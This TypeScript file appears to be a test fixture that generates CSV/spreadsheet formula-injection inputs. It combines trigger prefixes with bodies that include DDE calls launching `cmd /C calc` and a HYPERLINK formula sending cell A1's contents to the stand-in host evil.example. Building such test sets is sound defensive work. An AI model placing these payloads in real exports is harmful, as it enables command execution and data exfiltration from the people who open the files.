/** What a spreadsheet would run, or an exporter break at: more than 200, each once. */
const STARTS = [
  ...[
    '=',
    '+',
    '-',
    '@',
    '\t=',
    '\r=',
    '\n=',
    '\0=',
    '＝',
    '＋',
    '－',
    '＠',
    '\t',
    '\r',
    '\n',
    '\0',
  ],
  ...[`'=`, '"=', ' =', '\uFEFF=', ';=', ',=', '\r\n=', '=+-@'],
];
const REST = [
  `cmd|' /C calc'!A0`,
  'HYPERLINK("http://evil.example/?"&A1,"홍길동")',
  'SUM(1+1)*cmd',
  '010-1234-5678',
  '똠방각하 펲시콜라 ₩1,000 “따옴표” 👩‍💻',
  '1+1;=2+2\t=3+3',
  'DDE("cmd";"/C calc";"a")\r\n=두 번째 줄',
  '<f>1+1</f> & ]]> _x000A_ _x005F_',
  '',
];
export const PAYLOADS: readonly string[] = STARTS.flatMap((start) =>
  REST.map((rest) => start + rest),
);
